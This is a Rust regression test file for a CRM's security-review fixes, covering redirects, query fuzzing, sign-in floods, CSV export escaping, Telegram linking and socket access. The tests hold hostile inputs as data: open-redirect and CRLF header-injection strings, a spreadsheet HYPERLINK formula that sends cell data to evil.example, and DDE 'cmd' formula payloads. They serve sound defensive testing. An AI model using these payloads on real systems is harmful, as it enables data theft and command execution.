@@ -1,0 +1,821 @@
+//! Issue 14, the outside review's findings: each test here fails without its fix.
+
+use std::time::Duration;
+
+use crm::model::Role;
+use reqwest::StatusCode;
+use serde_json::json;
+
+use crate::core::{new_customer, new_order, Api};
+use crate::support::*;
+
+// ---------------------------------------------------------------------------------------
+// 3. Redirect targets
+
+const TRICKS: &[&str] = &[
+    "/\t/evil.example",
+    "/\n/evil.example",
+    "/\r/evil.example",
+    "/\r\nSet-Cookie: pwned=1",
+    "/\x7f/evil.example",
+    "//evil.example",
+    "/\\evil.example",
+    "/%09/evil.example",
+    "/%2F/evil.example",
+    "/%5cevil.example",
+    "https://evil.example/",
+];
+
+#[tokio::test]
+async fn sign_in_and_language_switch_never_redirect_off_site() {
+    let app = TestApp::spawn().await;
+    for trick in TRICKS {
+        // next on the sign-in form: the session is made and the browser goes home.
+        let client = app.client();
+        let pre = app.login_csrf(&client).await;
+        let r = client
+            .post(app.url("/login"))
+            .form(&[
+                ("username", "admin"),
+                ("password", ADMIN_PASSWORD),
+                ("_csrf", &pre),
+                ("next", trick),
+            ])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 303, "next={trick:?}");
+        assert_eq!(r.headers()["location"], "/", "next={trick:?}");
+        // Already signed in: GET /login?next=... redirects straight away.
+        let r = client
+            .get(app.url("/login"))
+            .query(&[("next", trick)])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 303, "GET next={trick:?}");
+        assert_eq!(r.headers()["location"], "/", "GET next={trick:?}");
+        // back on the language switch.
+        let home = client.get(app.url("/")).send().await.unwrap();
+        let csrf = csrf_from_html(&home.text().await.unwrap()).unwrap();
+        let r = client
+            .post(app.url("/lang"))
+            .form(&[("lang", "ru"), ("back", trick), ("_csrf", &csrf)])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 303, "back={trick:?}");
+        assert_eq!(r.headers()["location"], "/", "back={trick:?}");
+    }
+    // A same-site target with a query still works.
+    let client = app.client();
+    let pre = app.login_csrf(&client).await;
+    let r = client
+        .post(app.url("/login"))
+        .form(&[
+            ("username", "admin"),
+            ("password", ADMIN_PASSWORD),
+            ("_csrf", &pre),
+            ("next", "/orders?q=G%E2%80%98ayrat"),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.headers()["location"], "/orders?q=G%E2%80%98ayrat");
+}
+
+// ---------------------------------------------------------------------------------------
+// 2. Search and every list parser on any input
+
+/// Queries typed every day in Tashkent, which once dropped the connection.
+const EVERYDAY: &[&str] = &[
+    "O‘lmas",
+    "G‘ayrat",
+    "Samsung экран",
+    "Ўткир",
+    "ЎЗ",
+    "Oʻg‘iloy",
+    "я",
+    "ё1",
+    "€",
+    "😀😀",
+];
+
+#[tokio::test]
+async fn search_answers_uzbek_and_russian_text_everywhere() {
+    let app = TestApp::spawn().await;
+    let api = Api::of(&app, "admin").await;
+    let c = new_customer(&api, "O‘lmas G‘ayratov", "90 555 11 22").await;
+    new_order(&api, c, json!({"complaint": "Samsung экран"})).await;
+    let web = app.login_admin().await;
+    for q in EVERYDAY {
+        let (s, v) = api.get(&format!("/api/v1/search?q={}", urlencode(q))).await;
+        assert_eq!(s, 200, "api search {q:?}: {v}");
+        for path in ["/search", "/orders", "/orders/export.csv", "/customers"] {
+            let r = web
+                .client
+                .get(web.url(path))
+                .query(&[("q", q)])
+                .send()
+                .await
+                .unwrap_or_else(|e| panic!("{path}?q={q:?}: connection dropped: {e}"));
+            assert_eq!(r.status(), 200, "{path}?q={q:?}");
+        }
+    }
+    let (_, v) = api
+        .get(&format!("/api/v1/search?q={}", urlencode("O‘lmas")))
+        .await;
+    assert_eq!(v["customers"][0]["id"], c, "{v}");
+}
+
+fn urlencode(s: &str) -> String {
+    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
+}
+
+/// The parameters the list, search, export and audit routes read.
+const PARAMS: &[&str] = &[
+    "q",
+    "group",
+    "status",
+    "master",
+    "branch",
+    "from",
+    "to",
+    "overdue",
+    "sort",
+    "page",
+    "after",
+    "before",
+    "direction",
+    "outcome",
+    "operator",
+    "number",
+    "limit",
+    "offset",
+    "phone",
+    "customer",
+    "user",
+    "entity",
+    "action",
+    "all",
+    "state",
+    "period",
+    "username",
+    "only_failures",
+    "width",
+    "next",
+    "shown",
+    "failures",
+];
+
+/// Every GET route whose handler parses a query string, for the roles that may open it.
+const QUERY_ROUTES: &[&str] = &[
+    "/",
+    "/orders",
+    "/orders/export.csv",
+    "/orders/new",
+    "/my",
+    "/workload",
+    "/customers",
+    "/customers/export.csv",
+    "/customers/new",
+    "/search",
+    "/audit/logins",
+    "/audit/activity",
+    "/calls",
+    "/calls/export.csv",
+    "/calls/missed",
+    "/branches",
+    "/map",
+    "/users",
+    "/api/v1/customers",
+    "/api/v1/customers/lookup",
+    "/api/v1/orders",
+    "/api/v1/search",
+    "/api/v1/calls",
+    "/api/v1/calls/missed",
+    "/api/v1/login-audit",
+    "/api/v1/notifications/outbox",
+    "/api/v1/branches",
+    "/api/v1/users",
+    "/api/v1/tokens",
+];
+
+/// One raw query string: names from PARAMS, values percent-encoded from arbitrary text,
+/// arbitrary bytes (often not UTF-8), extreme numbers and date-like strings.
+fn query_strategy() -> impl proptest::strategy::Strategy<Value = String> {
+    use proptest::prelude::*;
+    let value = prop_oneof![
+        any::<String>().prop_map(|s| urlencode(&s)),
+        "\\PC{0,12}".prop_map(|s| urlencode(&s)),
+        proptest::collection::vec(any::<u8>(), 0..12)
+            .prop_map(|b| b.iter().map(|x| format!("%{x:02X}")).collect::<String>()),
+        any::<i64>().prop_map(|n| n.to_string()),
+        Just(i64::MAX.to_string()),
+        Just(i64::MIN.to_string()),
+        Just("99999999999999999999999".to_string()),
+        (-300000i32..300000, 0u8..40, 0u8..40).prop_map(|(y, m, d)| format!("{y}-{m:02}-{d:02}")),
+        Just("%".to_string()),
+        Just("%E2%80".to_string()),
+        Just("O%E2%80%98lmas".to_string()),
+    ];
+    proptest::collection::vec((proptest::sample::select(PARAMS), value), 0..6).prop_map(|kv| {
+        kv.iter()
+            .map(|(k, v)| format!("{k}={v}"))
+            .collect::<Vec<_>>()
+            .join("&")
+    })
+}
+
+#[tokio::test]
+async fn no_query_string_breaks_a_list_search_or_export() {
+    use proptest::strategy::{Strategy, ValueTree};
+    let app = TestApp::spawn().await;
+    let api = Api::of(&app, "admin").await;
+    let c = new_customer(&api, "Ўткир Саидов", "90 555 11 23").await;
+    new_order(&api, c, json!({})).await;
+    let web = app.login_admin().await;
+    let mut runner = proptest::test_runner::TestRunner::deterministic();
+    let strategy = query_strategy();
+    // Every parameter at its extremes first, then random mixtures.
+    let mut queries: Vec<String> = Vec::new();
+    for p in PARAMS {
+        for v in [
+            i64::MAX.to_string(),
+            i64::MIN.to_string(),
+            "-1".into(),
+            "99999999999999999999".into(),
+            "%FF%FE".into(),
+            "O%E2%80%98lmas".into(),
+            "9999-12-31".into(),
+            "-9999-01-01".into(),
+        ] {
+            queries.push(format!("{p}={v}"));
+        }
+    }
+    queries.push(format!("page={0}&after={0}&before={0}", i64::MAX));
+    queries.push(format!("page={0}&limit={0}&offset={0}", i64::MAX));
+    for _ in 0..60 {
+        queries.push(strategy.new_tree(&mut runner).unwrap().current());
+    }
+    for qs in &queries {
+        for route in QUERY_ROUTES {
+            let url = format!("{}?{qs}", web.url(route));
+            let r = if route.starts_with("/api/") {
+                api.c.get(&url).bearer_auth(&api.token).send().await
+            } else {
+                web.client.get(&url).send().await
+            };
+            let r = r.unwrap_or_else(|e| panic!("GET {route}?{qs}: connection dropped: {e}"));
+            assert!(
+                r.status().as_u16() < 500,
+                "GET {route}?{qs}: {}",
+                r.status()
+            );
+        }
+    }
+    // Raw bytes that are not UTF-8 in the request line itself.
+    for route in ["/search", "/orders", "/api/v1/search"] {
+        let status = raw_get(&app, &format!("{route}?q=")[..], b"\xff\xfe\xc3(").await;
+        assert!(
+            matches!(status, Some(s) if s < 500),
+            "{route} with raw invalid UTF-8: {status:?}"
+        );
+    }
+}
+
+/// Sends `GET <path><raw>` over a bare socket; the status code, or None when the server
+/// dropped the connection without an answer.
+async fn raw_get(app: &TestApp, path: &str, raw: &[u8]) -> Option<u16> {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let addr = app.base.trim_start_matches("http://").to_string();
+    let mut s = tokio::net::TcpStream::connect(&addr).await.ok()?;
+    let mut req = format!("GET {path}").into_bytes();
+    req.extend_from_slice(raw);
+    req.extend_from_slice(
+        format!(" HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n").as_bytes(),
+    );
+    s.write_all(&req).await.ok()?;
+    let mut buf = Vec::new();
+    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut buf))
+        .await
+        .ok()?
+        .ok()?;
+    let text = String::from_utf8_lossy(&buf);
+    text.split_whitespace().nth(1)?.parse().ok()
+}
+
+#[allow(dead_code)]
+fn _uses(_: Role, _: StatusCode) {}
+
+// ---------------------------------------------------------------------------------------
+// 1. Sign-in floods
+
+/// The real binary (so its memory is its own) with the shipped argon2 cost.
+pub struct Child {
+    pub child: std::process::Child,
+    pub addr: String,
+    #[allow(dead_code)] // held so the data directory lives as long as the process
+    pub dir: tempfile::TempDir,
+}
+
+impl Child {
+    pub fn spawn(extra_config: &str, users: &[(&str, &str, &str)]) -> Child {
+        use std::io::Write;
+        use std::process::{Command, Stdio};
+        let dir = tempfile::tempdir().unwrap();
+        let cfg = dir.path().join("test.toml");
+        std::fs::write(&cfg, format!("log = \"warn\"\n{extra_config}\n")).unwrap();
+        let cmd = || {
+            let mut c = Command::new(crm_bin());
+            c.arg("--data-dir")
+                .arg(dir.path())
+                .arg("--config")
+                .arg(&cfg)
+                .env_remove("CRM_HTTP")
+                .env_remove("CRM_DATA_DIR")
+                .env_remove("CRM_SIP");
+            c
+        };
+        for (name, role, pw) in users {
+            let mut add = cmd()
+                .args(["user", "add", name, "--role", role, "--password-stdin"])
+                .stdin(Stdio::piped())
+                .stdout(Stdio::null())
+                .spawn()
+                .unwrap();
+            add.stdin
+                .take()
+                .unwrap()
+                .write_all(format!("{pw}\n").as_bytes())
+                .unwrap();
+            assert!(add.wait().unwrap().success());
+        }
+        let port = std::net::TcpListener::bind("127.0.0.1:0")
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
+        let addr = format!("127.0.0.1:{port}");
+        let child = cmd()
+            .args(["serve", "--http", &addr, "--sip", "off"])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let c = Child { child, addr, dir };
+        let start = std::time::Instant::now();
+        loop {
+            if std::net::TcpStream::connect(&c.addr).is_ok() {
+                break;
+            }
+            assert!(start.elapsed() < Duration::from_secs(60), "server starts");
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        c
+    }
+
+    pub fn url(&self, path: &str) -> String {
+        format!("http://{}{path}", self.addr)
+    }
+
+    /// Peak resident memory of the server so far, in MiB (VmHWM).
+    pub fn peak_rss_mib(&self) -> u64 {
+        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap();
+        let kib: u64 = status
+            .lines()
+            .find(|l| l.starts_with("VmHWM:"))
+            .and_then(|l| l.split_whitespace().nth(1))
+            .and_then(|v| v.parse().ok())
+            .unwrap();
+        kib / 1024
+    }
+}
+
+impl Drop for Child {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// `n` sign-ins at once (each client fetched its form first); the status codes.
+pub async fn sign_in_flood(base: &str, n: usize, user: impl Fn(usize) -> String) -> Vec<u16> {
+    let mut ready = Vec::new();
+    for i in 0..n {
+        let client = reqwest::Client::builder()
+            .cookie_store(true)
+            .redirect(reqwest::redirect::Policy::none())
+            .build()
+            .unwrap();
+        let page = client.get(format!("{base}/login")).send().await.unwrap();
+        let pre = csrf_from_html(&page.text().await.unwrap()).unwrap();
+        ready.push((client, pre, user(i)));
+    }
+    let gate = std::sync::Arc::new(tokio::sync::Barrier::new(n));
+    let tasks: Vec<_> = ready
+        .into_iter()
+        .map(|(client, pre, name)| {
+            let (gate, base) = (gate.clone(), base.to_string());
+            tokio::spawn(async move {
+                gate.wait().await;
+                client
+                    .post(format!("{base}/login"))
+                    .form(&[
+                        ("username", name.as_str()),
+                        ("password", "wrong-password-1"),
+                        ("_csrf", &pre),
+                    ])
+                    .send()
+                    .await
+                    .map(|r| r.status().as_u16())
+                    .unwrap_or(0)
+            })
+        })
+        .collect();
+    let mut out = Vec::new();
+    for t in tasks {
+        out.push(t.await.unwrap());
+    }
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_sign_in_flood_is_counted_before_verifying_and_bounded_in_memory() {
+    // The shipped argon2 cost (32 MiB a hash); no address limit, so that every attempt of
+    // the first flood is a real verification and only the bound on parallel hashing keeps
+    // memory in check.
+    let srv = Child::spawn(
+        "[login]\nmax_failures_per_ip = 100000\n",
+        &[("owner", "admin", "owner-password-1")],
+    );
+    let base = format!("http://{}", srv.addr);
+    let codes = sign_in_flood(&base, 200, |i| format!("nobody{i}")).await;
+    let peak = srv.peak_rss_mib();
+    let verified = codes.iter().filter(|c| **c == 401).count();
+    let busy = codes.iter().filter(|c| **c == 429).count();
+    eprintln!("sign-in flood, 200 unknown users: peak RSS {peak} MiB, {verified} verified, {busy} answered 429");
+    assert_eq!(verified + busy, 200, "only 401 or 429: {codes:?}");
+    assert!(peak < 300, "peak RSS {peak} MiB");
+
+    drop(srv);
+    // 200 at once for one account, with time enough for every verification: no more than
+    // the limit (5) get one.
+    let srv = Child::spawn(
+        "[login]\nhash_wait_ms = 120000\n",
+        &[("owner", "admin", "owner-password-1")],
+    );
+    let base = format!("http://{}", srv.addr);
+    let codes = sign_in_flood(&base, 200, |_| "owner".into()).await;
+    let verified = codes.iter().filter(|c| **c == 401).count();
+    let locked = codes.iter().filter(|c| **c == 429).count();
+    eprintln!("sign-in flood, 200 for one user: {verified} verified, {locked} answered 429, peak RSS {} MiB", srv.peak_rss_mib());
+    assert!(
+        (1..=5).contains(&verified),
+        "{verified} attempts verified: {codes:?}"
+    );
+    assert_eq!(verified + locked, 200, "{codes:?}");
+    // And the right password is refused now too.
+    let client = reqwest::Client::builder()
+        .cookie_store(true)
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let page = client.get(srv.url("/login")).send().await.unwrap();
+    let pre = csrf_from_html(&page.text().await.unwrap()).unwrap();
+    let r = client
+        .post(srv.url("/login"))
+        .form(&[
+            ("username", "owner"),
+            ("password", "owner-password-1"),
+            ("_csrf", &pre),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 429);
+    assert!(r.headers().contains_key("retry-after"));
+    assert!(srv.peak_rss_mib() < 300);
+}
+
+// ---------------------------------------------------------------------------------------
+// 4. CSV exports
+
+/// Splits one CSV line into cells (RFC 4180 quoting).
+fn csv_cells(line: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cur.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => out.push(std::mem::take(&mut cur)),
+            (c, _) => cur.push(c),
+        }
+    }
+    out.push(cur);
+    out
+}
+
+#[tokio::test]
+async fn exports_write_formulas_as_text_and_phone_numbers_as_numbers() {
+    let app = TestApp::spawn().await;
+    let api = Api::of(&app, "admin").await;
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=cmd|' /C notepad'!A1",
+    ];
+    let (s, v) = api
+        .post(
+            "/api/v1/customers",
+            json!({"name": evil[0], "phones": ["90 123 45 67"], "address": evil[1], "email": "", "tags": evil[3]}),
+        )
+        .await;
+    assert_eq!(s, 201, "{v}");
+    let cid = v["id"].as_i64().unwrap();
+    new_order(
+        &api,
+        cid,
+        json!({"brand": evil[2], "model": evil[3], "serial": evil[4]}),
+    )
+    .await;
+    let web = app.login_admin().await;
+    for (path, planted) in [
+        ("/customers/export.csv", vec![evil[0], evil[1], evil[3]]),
+        (
+            "/orders/export.csv",
+            vec![evil[0], evil[2], evil[3], evil[4]],
+        ),
+    ] {
+        let body = web.get(path).await.text().await.unwrap();
+        let mut seen_phone = false;
+        for line in body.trim_start_matches('\u{feff}').split("\r\n").skip(1) {
+            for cell in csv_cells(line) {
+                let t = cell.trim_start();
+                let number = cell
+                    .strip_prefix(['+', '-'])
+                    .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()));
+                assert!(
+                    number
+                        || !(cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                            || t.starts_with(['=', '+', '-', '@'])),
+                    "{path}: a formula cell {cell:?} in {line:?}"
+                );
+                seen_phone |= cell == "+998901234567";
+            }
+        }
+        assert!(
+            seen_phone,
+            "{path}: the phone number stays a plain number: {body}"
+        );
+        for e in planted {
+            assert!(
+                body.contains(&format!("'{}", e.replace('"', "\"\""))),
+                "{path} keeps {e:?} as text: {body}"
+            );
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// 6. Telegram links for customers
+
+#[tokio::test]
+async fn only_the_receipts_one_time_code_links_a_customers_telegram() {
+    use crate::notify_peers::{BotStandIn, BOT_USERNAME};
+    let bot = BotStandIn::start().await;
+    let app = crate::notify::telegram_app(&bot).await;
+    let api = Api::of(&app, "admin").await;
+    let cid = new_customer(&api, "Dilnoza Rahimova", "90 777 66 55").await;
+    let order = new_order(&api, cid, json!({})).await;
+    let (id, number) = (
+        order["id"].as_i64().unwrap(),
+        order["number"].as_str().unwrap().to_string(),
+    );
+    let wait = Duration::from_secs(20);
+    let said = |chat: i64, needle: &'static str| {
+        let bot = &bot;
+        async move {
+            eventually(wait, || async {
+                bot.delivered_to(chat)
+                    .iter()
+                    .any(|t| t.contains(needle))
+                    .then_some(())
+            })
+            .await
+            .is_some()
+        }
+    };
+    // A stranger who guesses the order number (in any of its forms) is not linked.
+    for guess in [number.clone(), number.to_lowercase(), id.to_string()] {
+        bot.user_says(901, "en", &format!("/start o{guess}"));
+    }
+    assert!(said(901, "No order with this code").await);
+    bot.user_says(901, "en", "/status");
+    assert!(said(901, "not linked to an order").await);
+    assert!(
+        !bot.delivered_to(901).iter().any(|t| t.contains(&number)),
+        "the stranger learns nothing: {:?}",
+        bot.delivered_to(901)
+    );
+    // The receipt carries the code: in its QR code (as the deep link) and beside it.
+    let web = app.login_admin().await;
+    let receipt = web
+        .get(&format!("/orders/{id}/receipt"))
+        .await
+        .text()
+        .await
+        .unwrap();
+    let prefix = format!("https://t.me/{BOT_USERNAME}?start=o");
+    let at = receipt
+        .find(&format!("data-link=\"{prefix}"))
+        .expect("QR holds the deep link");
+    let url: String = receipt[at + 11..]
+        .chars()
+        .take_while(|c| *c != '"')
+        .collect();
+    let code = url.strip_prefix(&prefix).unwrap().to_string();
+    assert!(code.len() >= 16, "{code}: at least 80 bits");
+    assert!(
+        receipt.contains(&format!("<span class=\"tg-url\">{url}</span>")),
+        "printed beside it"
+    );
+    assert!(!code.contains(&number) && !number.contains(&code));
+    // A second print has a different code.
+    let again = web
+        .get(&format!("/orders/{id}/receipt"))
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(!again.contains(&url));
+    // The customer's chat links with it...
+    bot.user_says(902, "en", &format!("/start o{code}"));
+    assert!(said(902, "You will get updates about order").await);
+    // ... once: the same code from another chat links nothing.
+    bot.user_says(903, "en", &format!("/start o{code}"));
+    assert!(said(903, "No order with this code").await);
+    let linked = |chat: i64| {
+        let app = &app;
+        async move {
+            app.running()
+                .ctx
+                .db
+                .read(move |c| crm::db::telegram::chat(c, chat))
+                .await
+                .unwrap()
+                .and_then(|ch| ch.customer_id)
+        }
+    };
+    assert_eq!(linked(902).await, Some(cid));
+    assert_eq!(linked(901).await, None);
+    assert_eq!(linked(903).await, None);
+}
+
+// ---------------------------------------------------------------------------------------
+// 5. Open sockets follow access changes
+
+pub async fn open_with_token(app: &TestApp, token: &str) -> crate::live::Ws {
+    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
+    let mut req = format!("ws://{}/ws", app.running().http_addr)
+        .into_client_request()
+        .unwrap();
+    req.headers_mut()
+        .insert("authorization", format!("Bearer {token}").parse().unwrap());
+    tokio_tungstenite::connect_async(req).await.unwrap().0
+}
+
+/// Frames up to (and including) the first of type `until`; panics if it does not come.
+async fn frames_until(ws: &mut crate::live::Ws, until: &str) -> Vec<serde_json::Value> {
+    let mut seen = Vec::new();
+    loop {
+        let v = crate::live::next_any(ws, Duration::from_secs(10))
+            .await
+            .unwrap_or_else(|| panic!("no {until} frame; got {seen:?}"));
+        let done = v["type"] == until;
+        seen.push(v);
+        if done {
+            return seen;
+        }
+    }
+}
+
+/// Waits for the socket to be closed by the server; the close code.
+async fn closed_with(ws: &mut crate::live::Ws) -> Option<u16> {
+    use futures_util::StreamExt;
+    use tokio_tungstenite::tungstenite::Message;
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
+    loop {
+        match tokio::time::timeout_at(deadline, ws.next()).await {
+            Err(_) => panic!("socket still open after 5 s"),
+            Ok(None) | Ok(Some(Err(_))) => return None,
+            Ok(Some(Ok(Message::Close(f)))) => return f.map(|f| u16::from(f.code)),
+            Ok(Some(Ok(_))) => {}
+        }
+    }
+}
+
+#[tokio::test]
+async fn open_sockets_are_rescoped_or_closed_when_access_changes() {
+    let app = TestApp::spawn().await;
+    let admin = Api::of(&app, "admin").await;
+    let bek = app.add_user("bek", Role::Admin, "bek-password-1").await;
+    let token = app.api_token("bek").await;
+    let cookie = crate::live::login_cookie(&app, "bek", "bek-password-1").await;
+    let mut by_token = open_with_token(&app, &token).await;
+    let mut by_cookie = crate::live::open(&app, Some(&cookie), None, "")
+        .await
+        .unwrap();
+    // As an admin, both sockets see customer changes.
+    new_customer(&admin, "Birinchi", "90 100 00 01").await;
+    for ws in [&mut by_token, &mut by_cookie] {
+        frames_until(ws, "customer.updated").await;
+    }
+    // Made a master: the sockets stay open, and from now on see what a master sees.
+    let patch = |body: serde_json::Value| {
+        let admin = &admin;
+        async move {
+            let (s, v) = admin
+                .send(
+                    reqwest::Method::PATCH,
+                    &format!("/api/v1/users/{bek}"),
+                    body,
+                )
+                .await;
+            assert_eq!(s, 200, "{v}");
+        }
+    };
+    patch(json!({"role": "master"})).await;
+    new_customer(&admin, "Ikkinchi", "90 100 00 02").await;
+    let (s, _) = admin
+        .post("/api/v1/notices", json!({"text": "after"}))
+        .await;
+    assert_eq!(s, 201);
+    for ws in [&mut by_token, &mut by_cookie] {
+        let seen = frames_until(ws, "notice").await;
+        assert!(
+            seen.iter()
+                .all(|f| f["type"] != "customer.updated" && f["type"] != "user.access_changed"),
+            "a master's socket got {seen:?}"
+        );
+    }
+    // The token revoked: its socket closes at once; the session's stays.
+    let (_, tokens) = admin.get("/api/v1/tokens").await;
+    let tid = tokens
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|t| t["user_id"] == bek)
+        .unwrap()["id"]
+        .as_i64()
+        .unwrap();
+    let (s, _) = admin
+        .send(
+            reqwest::Method::DELETE,
+            &format!("/api/v1/tokens/{tid}"),
+            json!({}),
+        )
+        .await;
+    assert!(s.is_success(), "{s}");
+    assert_eq!(closed_with(&mut by_token).await, Some(1008));
+    let (s, _) = admin
+        .post("/api/v1/notices", json!({"text": "still here"}))
+        .await;
+    assert_eq!(s, 201);
+    frames_until(&mut by_cookie, "notice").await;
+    // Disabled: the session's socket closes too.
+    patch(json!({"active": false})).await;
+    assert_eq!(closed_with(&mut by_cookie).await, Some(1008));
+
+    // A new password ends the user's other sessions, and their sockets.
+    app.add_user("olim", Role::Operator, "olim-password-1")
+        .await;
+    let olim = app
+        .running()
+        .ctx
+        .accounts
+        .user_by_username("olim")
+        .await
+        .unwrap()
+        .id;
+    let c1 = crate::live::login_cookie(&app, "olim", "olim-password-1").await;
+    let mut ws1 = crate::live::open(&app, Some(&c1), None, "").await.unwrap();
+    frames_until(&mut ws1, "hello").await;
+    let (s, v) = admin
+        .send(
+            reqwest::Method::PATCH,
+            &format!("/api/v1/users/{olim}"),
+            json!({"password": "olim-password-2"}),
+        )
+        .await;
+    assert_eq!(s, 200, "{v}");
+    assert_eq!(closed_with(&mut ws1).await, Some(1008));
+}
